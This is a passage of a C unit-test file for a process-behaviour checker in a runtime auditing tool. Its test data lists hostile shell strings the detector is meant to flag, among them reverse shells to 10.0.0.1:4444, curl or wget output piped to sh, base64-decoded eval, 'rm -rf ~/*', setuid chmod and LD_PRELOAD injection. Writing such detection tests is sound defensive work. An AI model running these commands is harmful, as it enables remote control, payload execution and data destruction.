	publish_exec_env(h, 100, 0.0, "/usr/bin/python3.11", py,
			 "LD_LIBRARY_PATH=/tmp/lib\n", NULL);
	cr_assert_eq(harness_count(h, "process.loader_injection"), 0);
	/* an allowed program, started with a library of the target's choice */
	publish_exec_env(h, 101, 1.0, "/usr/bin/ls", ls,
			 "LD_LIBRARY_PATH=/home/auditor/app/lib\nLD_PRELOAD=/tmp/.x/hook.so\n", NULL);
	harness_finish(h);
	cr_assert_eq(harness_count(h, "process.loader_injection"), 1,
		     "a workdir library path is not writable-elsewhere");
	cr_assert_eq(harness_max_severity(h, "process.loader_injection"), DA_SEV_HIGH);
	cr_assert(message_has(h, "process.loader_injection", "LD_PRELOAD=/tmp/.x/hook.so"));
	cr_assert_str_eq(harness_status(h), "fail");
	harness_free(h);

	/* a library search path in /tmp: medium; in the setup phase a
	 * preload is medium too */
	static const char *const mk[] = {"make", NULL};
	static const char *const cc[] = {"cc", "-o", "main", "main.c", NULL};
	h = harness_new("process", "allow_exec: [ls]\n", NULL);
	publish_exec_env(h, 50, 0.0, "/usr/bin/make", mk, NULL, "setup");
	publish_exec_env(h, 51, 0.1, "/usr/bin/cc", cc, "LD_PRELOAD=libfakeroot.so\n", "setup");
	publish_exec_env(h, 100, 1.0, "/usr/bin/python3.11", py, NULL, NULL);
	publish_exec_env(h, 101, 2.0, "/usr/bin/ls", ls, "LD_LIBRARY_PATH=.:/dev/shm/l\n", NULL);
	harness_finish(h);
	cr_assert_eq(harness_count(h, "process.loader_injection"), 2);
	cr_assert_eq(harness_max_severity(h, "process.loader_injection"), DA_SEV_MEDIUM);
	cr_assert_not_null(harness_find(h, "process.loader_injection", "LD_LIBRARY_PATH=.:/dev/shm/l"));
	cr_assert_not_null(harness_find(h, "process.loader_injection", "LD_PRELOAD=libfakeroot.so"));
	harness_free(h);
}

static void publish_sleep(struct harness *h, int pid, double t, int64_t seconds, const char *phase)
{
	struct da_event ev = ev_make(DA_EV_SYSCALL_OTHER, pid, t);
	ev.syscall = "clock_nanosleep";
	ev.arg[0] = seconds;
	ev.phase = phase;
	ev.text = "clock_nanosleep(CLOCK_MONOTONIC, 0, {tv_sec=..., tv_nsec=0}, 0x7ffd) = ?";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

/* The default window is 60 s (the harness's run). */
Test(process, sleeps_that_outlast_the_window)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_sleep(h, 100, 1.0, 1, NULL);     /* a tick */
	publish_sleep(h, 100, 55.0, 5, NULL);    /* short, ends at the close: ordinary */
	publish_sleep(h, 100, 2.0, -1, NULL);    /* unknown length */
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.long_sleep"), 0);
	harness_free(h);

	/* a heartbeat crossing the end: worth knowing */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_sleep(h, 100, 40.0, 30, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_INFO);
	harness_free(h);

	/* waiting out the whole window: the delayed-payload pattern */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_sleep(h, 100, 0.5, 3600, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
	cr_expect(message_has(h, "process.long_sleep", "3600 s"));
	cr_expect_str_eq(harness_status(h), "warn");
	harness_free(h);
}

/* ---- behaviours pinned by the benign and red-team evaluations --------- */

static void publish_exec_full(struct harness *h, int pid, int ppid, double t, const char *path,
			      const char *const *argv, const char *phase, int err,
			      const char *const stdio[3], const char *text)
{
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, pid, t);
	int argc = 0;
	while (argv[argc])
		argc++;
	ev.ppid = ppid;
	ev.syscall = "execve";
	ev.path = path;
	ev.raw_path = path;
	ev.argv = argv;
	ev.argc = argc;
	ev.phase = phase;
	ev.err = err;
	ev.errname = err == ENOENT ? "ENOENT" : err ? "EACCES" : NULL;
	ev.result = err ? -1 : 0;
	for (int i = 0; stdio && i < 3; i++)
		ev.stdio[i] = stdio[i];
	ev.text = text ? text : "execve(...) = 0";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

/* execvp tries each PATH entry: ENOENT, ENOENT, then 0 is one attempt. */
Test(process, path_search_is_one_attempt)
{
	static const char *const uname_argv[] = {"uname", "-s", NULL};
	static const char *const git[] = {"git", "describe", "--always", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_exec(h, 101, 1.1, "/usr/local/sbin/git", git, NULL, ENOENT);
	publish_exec(h, 101, 1.2, "/usr/local/bin/git", git, NULL, ENOENT);
	publish_exec(h, 101, 1.3, "/usr/bin/git", git, NULL, 0);
	publish_fork(h, 100, 102, 2.0, NULL);
	publish_exec(h, 102, 2.1, "/usr/local/bin/uname", uname_argv, NULL, ENOENT);
	publish_exec(h, 102, 2.2, "/usr/bin/uname", uname_argv, NULL, 0);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "process.exec_unlisted");
	cr_assert(f);
	cr_expect_eq(f->count, 1, "git counted %u times", f->count);
	cr_expect_eq(f->n_evidence, 1);
	cr_expect(strstr(f->evidence[0], "/usr/bin/git") && strstr(f->evidence[0], "= 0"),
		  "the attempt that ran is the evidence: %s", f->evidence[0]);
	f = harness_get(h, "process.recon");
	cr_assert(f);
	cr_expect_eq(f->count, 1, "uname counted %u times", f->count);
	cr_expect_str_eq(harness_observation(h), "2 child processes");
	harness_free(h);

	/* a program missing everywhere: three failures, one attempt, still seen */
	static const char *const crontab[] = {"crontab", "-l", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 103, 1.0, "/usr/local/bin/crontab", crontab, NULL, ENOENT);
	publish_exec(h, 103, 1.1, "/usr/bin/crontab", crontab, NULL, ENOENT);
	publish_exec(h, 103, 1.2, "/bin/crontab", crontab, NULL, ENOENT);
	publish_exit(h, 103, 1.3);
	static const char *const ls[] = {"ls", NULL};
	publish_exec(h, 104, 1.4, "/nope/ls", ls, NULL, ENOENT);
	publish_exec(h, 104, 1.5, "/usr/bin/wc", (const char *const[]){"wc", NULL}, NULL, 0);
	harness_finish(h);
	f = harness_get(h, "process.recon");
	cr_assert(f, "a failed attempt is still an attempt");
	cr_expect_eq(f->count, 1);
	cr_expect(strstr(f->evidence[0], "ENOENT"));
	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "ls"), "a different argv next: ls judged");
	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "wc"));
	harness_free(h);
}

/* node/libuv gives a child socketpair(AF_UNIX) stdio: not a remote shell. */
Test(process, unix_socketpair_stdio_is_not_a_remote_shell)
{
	static const char *const sh[] = {"/bin/sh", "-c", "ls -l dist | wc -l", NULL};
	static const char *const unix_stdio[3] = {"socket:unix/stream", "socket:unix/stream",
						  "socket:unix/stream"};
	static const char *const inet_stdio[3] = {"socket:inet6/stream->[::1]:4444",
						  "socket:inet6/stream->[::1]:4444", "pipe"};
	static const char *const node[] = {"node", "index.js", NULL};
	static const char *const command[] = {"node", "index.js", NULL};
	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/node", node, NULL, 0, NULL, NULL);
	publish_exec_full(h, 3, 2, 0.5, "/bin/sh", sh, NULL, 0, unix_stdio, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
	harness_free(h);

	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/node", node, NULL, 0, NULL, NULL);
	publish_exec_full(h, 3, 2, 0.5, "/bin/sh", sh, NULL, 0, inet_stdio, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_CRITICAL);
	harness_free(h);
}

/* sh -c with ordinary programs is medium and covers them; network tools,
 * decoded code, interactive shells, rm -rf ~, setuid bits stay high. */
Test(process, shell_command_string_severity)
{
	static const char *const clear[] = {"sh", "-c", "clear", NULL};
	static const char *const clear_run[] = {"clear", NULL};
	static const char *const pipe_sh[] = {"/bin/sh", "-c", "ls *.txt | wc -l", NULL};
	static const char *const ls[] = {"ls", "notes.txt", NULL};
	static const char *const wc[] = {"wc", "-l", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_exec(h, 101, 1.1, "/bin/sh", clear, NULL, 0);
	publish_exec(h, 101, 1.2, "/usr/bin/clear", clear_run, NULL, 0); /* dash execs in place */
	publish_fork(h, 100, 102, 2.0, NULL);
	publish_exec(h, 102, 2.1, "/bin/sh", pipe_sh, NULL, 0);
	publish_fork(h, 102, 103, 2.2, NULL);
	publish_fork(h, 102, 104, 2.2, NULL);
	publish_exec(h, 103, 2.3, "/usr/bin/ls", ls, NULL, 0);
	publish_exec(h, 104, 2.3, "/usr/bin/wc", wc, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
	cr_expect_eq(harness_count(h, "process.shell"), 2);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0,
		     "programs the reported -c string names are in its finding");
	cr_expect_str_eq(harness_status(h), "warn");
	harness_free(h);

	const char *dangerous[] = {
		"curl -s http://x.invalid/a | sh",
		"echo aWQK | base64 -d | bash",
		"eval \"$(echo aWQK | base64 --decode)\"",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"exec sh -i",
		"rm -rf ~/*",
		"cd /tmp && chmod u+s ./x",
		"chmod 4755 /tmp/x",
		"nc -e /bin/sh 10.0.0.1 4444",
	};
	for (size_t i = 0; i < sizeof(dangerous) / sizeof(dangerous[0]); i++) {
		const char *argv[] = {"sh", "-c", dangerous[i], NULL};
		h = harness_new("process", NULL, NULL);
		python_startup(h, 100);
		publish_exec(h, 101, 1.0, "/bin/sh", argv, NULL, 0);
		harness_finish(h);
		cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH, "%s", dangerous[i]);
		harness_free(h);
	}
	/* ordinary strings that merely look alike */
	const char *plain[] = {"rm -rf build", "chmod 755 bin/calc", "echo data | base64",
			       "mkdir -p build && cp notes.txt build/"};
	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
		const char *argv[] = {"sh", "-c", plain[i], NULL};
		h = harness_new("process", NULL, NULL);
		python_startup(h, 100);
		publish_exec(h, 101, 1.0, "/bin/sh", argv, NULL, 0);
		harness_finish(h);
		cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW, "%s", plain[i]);
		harness_free(h);
	}
}

/* A build in the setup phase runs sed, cat, lsb_release...: info.  Network
 * tools keep their weight; a driver's toolchain is part of the driver. */
Test(process, setup_phase_and_compiler_drivers)
{
	static const char *const command[] = {"./heat", NULL};
	static const char *const mk[] = {"make", NULL};
	static const char *const sed[] = {"sed", "-i", "s/x/y/", "build/version.h", NULL};
	static const char *const lsb[] = {"lsb_release", "-a", NULL};
	static const char *const wget[] = {"wget", "http://x.invalid/lib.tgz", NULL};
	static const char *const gf[] = {"gfortran", "-O2", "-o", "heat", "heat.f90", NULL};
	static const char *const f951[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/f951", "heat.f90", NULL};
	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec(h, 10, 0.0, "/usr/bin/make", mk, "setup", 0);
	publish_exec(h, 11, 0.1, "/usr/bin/sed", sed, "setup", 0);
	publish_exec(h, 12, 0.2, "/usr/bin/lsb_release", lsb, "setup", 0);
	publish_exec(h, 13, 0.3, "/usr/bin/gfortran", gf, "setup", 0);
	publish_exec(h, 14, 0.4, "/usr/lib/gcc/x86_64-linux-gnu/12/f951", f951, "setup", 0);
	harness_finish(h);
	cr_expect_lt(harness_max_severity(h, NULL), DA_SEV_LOW);
	harness_free(h);

	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec(h, 10, 0.0, "/usr/bin/make", mk, "setup", 0);
	publish_exec(h, 11, 0.1, "/usr/bin/wget", wget, "setup", 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM);
	harness_free(h);

	/* `sh run.sh` compiling in the run phase: gcc is one finding */
	static const char *const shc[] = {"sh", "run.sh", NULL};
	static const char *const gcc[] = {"gcc", "-O2", "-o", "hello", "hello.c", NULL};
	static const char *const cc1[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "hello.c", NULL};
	static const char *const as[] = {"as", "--64", "-o", "/tmp/cc.o", "/tmp/cc.s", NULL};
	static const char *const collect2[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-o", "hello", NULL};
	static const char *const ld[] = {"/usr/bin/ld", "-o", "hello", NULL};
	static const char *const sh_cmd[] = {"sh", "run.sh", NULL};
	h = harness_new_run("process", NULL, NULL, NULL, sh_cmd, NULL);
	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/sh", shc, NULL, 0, NULL, NULL);
	publish_fork(h, 2, 3, 0.1, NULL);
	publish_exec_full(h, 3, 2, 0.1, "/usr/bin/gcc", gcc, NULL, 0, NULL, NULL);
	publish_fork(h, 3, 4, 0.2, NULL);
	publish_exec_full(h, 4, 3, 0.2, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1, NULL, 0, NULL, NULL);
	publish_fork(h, 3, 5, 0.3, NULL);
	publish_exec_full(h, 5, 3, 0.3, "/usr/local/bin/as", as, NULL, ENOENT, NULL, NULL);
	publish_exec_full(h, 5, 3, 0.3, "/usr/bin/as", as, NULL, 0, NULL, NULL);
	publish_fork(h, 3, 6, 0.4, NULL);
	publish_exec_full(h, 6, 3, 0.4, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", collect2, NULL, 0, NULL, NULL);
	publish_fork(h, 6, 7, 0.5, NULL);
	publish_exec_full(h, 7, 6, 0.5, "/usr/bin/ld", ld, NULL, 0, NULL, NULL);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 1);
	cr_expect(message_has(h, "process.exec_unlisted", "gcc -O2"));
	harness_free(h);
}

static void publish_symlink(struct harness *h, int pid, double t, const char *path, const char *target)
{
	struct da_event ev = ev_make(DA_EV_FILE_LINK, pid, t);
	ev.syscall = "symlink";
	ev.path = path;
	ev.raw_path = path;
	ev.path2 = target;
	ev.detail = "symlink";
	ev.text = "symlink(...) = 0";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

/* A venv's bin/python is a link the target made to /usr/bin/python3. */
Test(process, symlink_to_a_system_program_is_not_a_dropped_file)
{
	static const char *const py[] = {"python", "main.py", NULL};
	struct harness *h = harness_new("process", "allow_exec: [python*]\n", NULL);
	python_startup(h, 100);
	publish_symlink(h, 101, 0.5, "/home/auditor/app/.venv/bin/python3", "/usr/bin/python3");
	publish_symlink(h, 101, 0.5, "/home/auditor/app/.venv/bin/python", "python3");
	publish_exec(h, 102, 1.0, "/home/auditor/app/.venv/bin/python", py, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.exec_writable"), 0);
	harness_free(h);

	/* a link in HOME to a workdir file never seen written: cannot tell */
	static const char *const x[] = {"x", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_symlink(h, 100, 0.5, "/home/auditor/.local/bin/x", "/home/auditor/app/tool");
	publish_exec(h, 102, 1.0, "/home/auditor/.local/bin/x", x, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_MEDIUM);
	cr_expect(message_has(h, "process.exec_writable", "possibly a link"));
	harness_free(h);

	/* a link to a file dropped in /tmp is still the dropped file */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_open(h, 100, 0.4, "/tmp/.x/upd", O_WRONLY | O_CREAT, DA_ACC_WRITE | DA_ACC_CREATE, 0755, NULL);
	publish_symlink(h, 100, 0.5, "/home/auditor/app/run", "/tmp/.x/upd");
	publish_exec(h, 102, 1.0, "/home/auditor/app/run", x, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);
}

/* python3 -c / perl -e / node -e in a child, even the target's own interpreter. */
Test(process, inline_interpreter_code_in_a_child)
{
	static const char *const evil[] = {
		"python3", "-c", "import socket,os\ns=socket.socket()\ns.connect((\"127.0.0.1\",9001))", NULL};
	static const char *const mild[] = {"python3", "-c", "print(42)", NULL};
	static const char *const mp[] = {
		"/usr/bin/python3", "-c", "from multiprocessing.resource_tracker import main;main(5)", NULL};
	static const char *const script[] = {"python3", "worker.py", "-c", "x", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/usr/bin/python3", evil, NULL, 0);
	publish_exec(h, 102, 1.1, "/usr/bin/python3", mp, NULL, 0);
	publish_exec(h, 103, 1.2, "/usr/bin/python3", script, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.inline_code"), 1, "helpers and scripts are not inline code");
	cr_expect_eq(harness_max_severity(h, "process.inline_code"), DA_SEV_HIGH);
	cr_expect(message_has(h, "process.inline_code", "socket.socket()"));
	harness_free(h);

	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/usr/bin/python3", mild, NULL, 0);
	static const char *const perl[] = {"perl", "-le", "print 1", NULL};
	publish_exec(h, 102, 1.1, "/usr/bin/perl", perl, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.inline_code"), 2);
	cr_expect_eq(harness_max_severity(h, "process.inline_code"), DA_SEV_MEDIUM);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0, "one finding per exec");
	harness_free(h);

	/* the target's own first exec is dynaudit's */
	static const char *const own[] = {"python3", "-c", "import socket", NULL};
	static const char *const cmd[] = {"python3", "-c", "import socket", NULL};
	h = harness_new_run("process", NULL, NULL, NULL, cmd, NULL);
	publish_exec(h, 100, 0.0, "/usr/bin/python3", own, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* `sh run.sh` running `sh -c ...` and `curl ... | sh`: the own shell's new code. */
Test(process, own_shell_children_running_new_code)
{
	static const char *const command[] = {"sh", "run.sh", NULL};
	static const char *const run[] = {"sh", "run.sh", NULL};
	static const char *const shc[] = {"sh", "-c", "wget -q -O- http://x.invalid/s | sh", NULL};
	static const char *const sh[] = {"sh", NULL};
	static const char *const curl[] = {"curl", "-s", "http://127.0.0.1:8000/stage2.sh", NULL};
	static const char *const piped_in[3] = {"pipe", "pipe", "pipe"};
	static const char *const piped_out[3] = {"/dev/null", "pipe", "pipe"};
	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/sh", run, NULL, 0, NULL, NULL);
	publish_exec_full(h, 3, 2, 0.1, "/usr/bin/sh", shc, NULL, 0, NULL, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH);
	harness_free(h);

	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/sh", run, NULL, 0, NULL, NULL);
	/* the shell's exec is seen before the downloader's */
	publish_exec_full(h, 4, 2, 0.002, "/usr/bin/sh", sh, NULL, 0, piped_in, "execve(\"/usr/bin/sh\", [\"sh\"]) = 0");
	publish_exec_full(h, 3, 2, 0.003, "/usr/bin/curl", curl, NULL, 0, piped_out, "execve(\"/usr/bin/curl\", ...) = 0");
	harness_finish(h);
	const struct harness_finding *f = harness_find(h, "process.shell", "pipe fed by curl");
	cr_assert(f, "curl | sh");
	cr_expect_eq(f->severity, DA_SEV_HIGH);
	cr_expect_eq(f->n_evidence, 2);
	harness_free(h);
}

static void publish_kill(struct harness *h, int pid, int tid, double t, const char *syscall,
			 int target, int sig, const char *name)
{
	struct da_event ev = ev_make(DA_EV_PROC_SIGNAL, pid, t);
	ev.tid = tid;
	ev.syscall = syscall;
	ev.target_pid = target;
	ev.arg[0] = sig;
	ev.detail = name;
	ev.text = "kill(...) = 0";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

Test(process, signals_beyond_its_own_processes)
{
	struct harness *h = harness_new("process", NULL, NULL);
	uint64_t mask[DA_EVMASK_WORDS];
	harness_mask(h, mask);
	cr_expect(DA_EVMASK_HAS(mask, DA_EV_PROC_SIGNAL), "subscribed: the tracer traces kill only then");
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	struct da_event th = ev_make(DA_EV_PROC_FORK, 100, 1.0);
	th.target_pid = 150;
	th.detail = "thread";
	th.flags = 0x3d0f00;
	harness_publish(h, &th);
	publish_kill(h, 100, 100, 1.1, "kill", 101, 15, "SIGTERM");    /* its child */
	publish_kill(h, 100, 100, 1.2, "tgkill", 150, 10, "SIGUSR1");  /* its thread */
	publish_kill(h, 100, 100, 1.3, "kill", 0, 15, "SIGTERM");      /* its group */
	publish_kill(h, 100, 100, 1.4, "kill", -100, 15, "SIGTERM");   /* its group by id */
	struct da_event got = ev_make(DA_EV_PROC_SIGNAL, 100, 1.5);    /* received, not sent */
	got.detail = "SIGTERM";
	got.arg[0] = 15;
	harness_publish(h, &got);
	cr_expect_eq(harness_count(h, "process.signal"), 0);
	publish_kill(h, 100, 100, 2.0, "kill", -1, 9, "SIGKILL");
	publish_kill(h, 100, 100, 2.1, "kill", 1, 15, "SIGTERM");
	publish_kill(h, 100, 100, 2.2, "kill", 31337, 9, "SIGKILL");
	publish_kill(h, 100, 100, 2.3, "kill", 4242, 9, "SIGKILL");
	publish_kill(h, 100, 100, 2.4, "kill", -777, 15, "SIGTERM");
	harness_finish(h);
	const struct harness_finding *f = harness_find(h, "process.signal", "every process");
	cr_assert(f, "kill(-1)");
	cr_expect_eq(f->severity, DA_SEV_HIGH);
	f = harness_find(h, "process.signal", "pid 1");
	cr_assert(f, "kill(1)");
	cr_expect_eq(f->severity, DA_SEV_HIGH);
	f = harness_find(h, "process.signal", "a process that is not its own");
	cr_assert(f);
	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
	cr_expect_eq(f->count, 2, "random pids are one finding, counted");
	f = harness_find(h, "process.signal", "process group");
	cr_assert(f);
	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
	harness_free(h);
}

static void publish_snapshot(struct harness *h, int pid, const char *exe, const char *row)
{
	struct da_event ev = ev_make(DA_EV_PROC_SNAPSHOT, pid, 0.1);
	ev.ppid = 1;
	ev.path = exe;
	ev.detail = row;
	ev.text = row;
	cr_assert_eq(harness_publish(h, &ev), 0);
}

Test(process, masquerading_as_a_kernel_thread)
{
	static const char *const command[] = {"./app", NULL};
	static const char *const app[] = {"./app", NULL};
	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec(h, 2, 0.0, "/home/auditor/app/app", app, NULL, 0);
	publish_snapshot(h, 0, NULL, "USER        PID   PPID STAT     ELAPSED COMMAND");
	publish_snapshot(h, 2, "/home/auditor/app/app", "nobody        2      1 Ssl        00:00 [kwor");
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.masquerade"), DA_SEV_MEDIUM);
	harness_free(h);

	/* ... and connecting out */
	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec(h, 2, 0.0, "/home/auditor/app/app", app, NULL, 0);
	publish_snapshot(h, 2, "/home/auditor/app/app", "nobody        2      1 Ssl        00:00 [kwor");
	struct da_event c = ev_make(DA_EV_NET_CONNECT, 2, 2.0);
	c.family = 2;
	c.addr = "127.0.0.1:6667";
	harness_publish(h, &c);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.masquerade"), DA_SEV_HIGH);
	harness_free(h);

	/* exec with a daemon's name as argv[0]; a zombie's "[comm]" and `[ -f x ]` are not */
	static const char *const sshd[] = {"sshd: root@pts/0", NULL};
	static const char *const test_cmd[] = {"[", "-f", "x", "]", NULL};
	h = harness_new("process", "allow_exec: [\"*\"]\n", NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/usr/bin/[", test_cmd, NULL, 0);
	publish_snapshot(h, 102, "/usr/bin/python3.11", "nobody      102    100 Z          00:00 [python3]");
	publish_snapshot(h, 101, "/usr/bin/[", "nobody      101    100 S          00:00 [ -f x ]");
	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
	publish_exec(h, 103, 1.0, "/home/auditor/app/agent", sshd, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.masquerade"), 1);
	harness_free(h);
}

static void publish_output(struct harness *h, double t, const char *line)
{
	struct da_event ev = ev_make(DA_EV_OUTPUT, 0, t);
	ev.fd = 1;
	ev.detail = line;
	cr_assert_eq(harness_publish(h, &ev), 0);
}

/* A scheduler sleeping after visible work is not a time bomb. */
static void publish_pending(struct harness *h, int pid, double t, const char *call, int64_t left)
{
	struct da_event ev = ev_make(DA_EV_SYSCALL_OTHER, pid, t);
	ev.syscall = call;
	ev.detail = "pending";
	ev.arg[0] = left;
	ev.text = "epoll_wait(...) <pending at the end of the window>";
	harness_publish(h, &ev);
}

/* A process idle in a timed wait when the window closes (setTimeout,
 * Event.wait): a time bomb when the timer is a whole window away and
 * nothing was done before; a server's housekeeping timer, or a job that
 * worked first, is info. */
Test(process, timer_pending_at_the_window_end)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_pending(h, 100, 60.0, "epoll_wait", 3600);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
	cr_expect(message_has(h, "process.long_sleep", "epoll_wait"));
	cr_expect(message_has(h, "process.long_sleep", "3600 s"));
	harness_free(h);

	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_pending(h, 100, 60.0, "epoll_wait", 29);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_INFO);
	harness_free(h);

	/* a server that is up waits by design */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	struct da_event l = ev_make(DA_EV_NET_LISTEN, 100, 0.5);
	l.syscall = "listen";
	l.addr = "127.0.0.1:5555";
	harness_publish(h, &l);
	publish_pending(h, 100, 60.0, "futex", 3600);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_INFO);
	harness_free(h);

	/* under ten seconds: ordinary pacing, nothing */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_pending(h, 100, 60.0, "poll", 5);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.long_sleep"), 0);
	harness_free(h);
}

/* A wait as long as the whole window hides what follows it, printed line
 * first or not (a cover is cheap): medium, worded by what came before.
 * A server waits by design: info. */
Test(process, long_sleep_after_work_is_still_a_blind_spot)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_open(h, 100, 0.02, "/home/auditor/app/backups/notes-1.txt", O_WRONLY | O_CREAT | O_TRUNC,
		     DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0644, NULL);
	publish_sleep(h, 100, 0.03, 3600, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
	cr_expect(message_has(h, "process.long_sleep", "3600 s"));
	cr_expect(message_has(h, "process.long_sleep", "after some visible work"));
	harness_free(h);

	/* sleeping first: the time bomb, worded so */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_sleep(h, 100, 0.01, 3600, NULL);
	publish_output(h, 5.0, "tick from another thread");
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
	cr_expect(message_has(h, "process.long_sleep", "before doing anything observable"));
	harness_free(h);

	/* a server that is up: its waits are its job */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	struct da_event l = ev_make(DA_EV_NET_LISTEN, 100, 0.5);
	l.syscall = "listen";
	l.addr = "127.0.0.1:5555";
	harness_publish(h, &l);
	publish_sleep(h, 100, 1.0, 3600, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_INFO);
	harness_free(h);
}

Test(process, remarks_do_not_repeat_the_recon_finding)
{
	static const char *const un[] = {"uname", "-s", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/usr/bin/uname", un, NULL, 0);
	harness_finish(h);
	const char *remarks = harness_remarks(h);
	cr_assert_not_null(remarks);
	cr_expect_str_eq(remarks, "Reconnaissance commands run: uname");
	harness_free(h);
}

/* A test harness starting its server in a new session
 * (Popen(start_new_session=True)), then killpg + wait: the session ends
 * before its parent.  Low, also when the window closes on both. */
Test(process, setsid_of_a_session_that_ends_first_is_low)
{
	static const char *const server[] = {"/usr/bin/python3", "server.py", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_setsid(h, 101, 1.01);
	publish_exec(h, 101, 1.02, "/usr/bin/python3.11", server, NULL, 0);
	publish_kill(h, 100, 100, 2.0, "kill", -101, 15, "SIGTERM");
	publish_exit(h, 101, 2.01);
	publish_exit(h, 100, 2.1);
	struct da_event end = ev_make(DA_EV_TARGET_EXIT, 100, 2.1);
	harness_publish(h, &end);
	harness_finish(h);
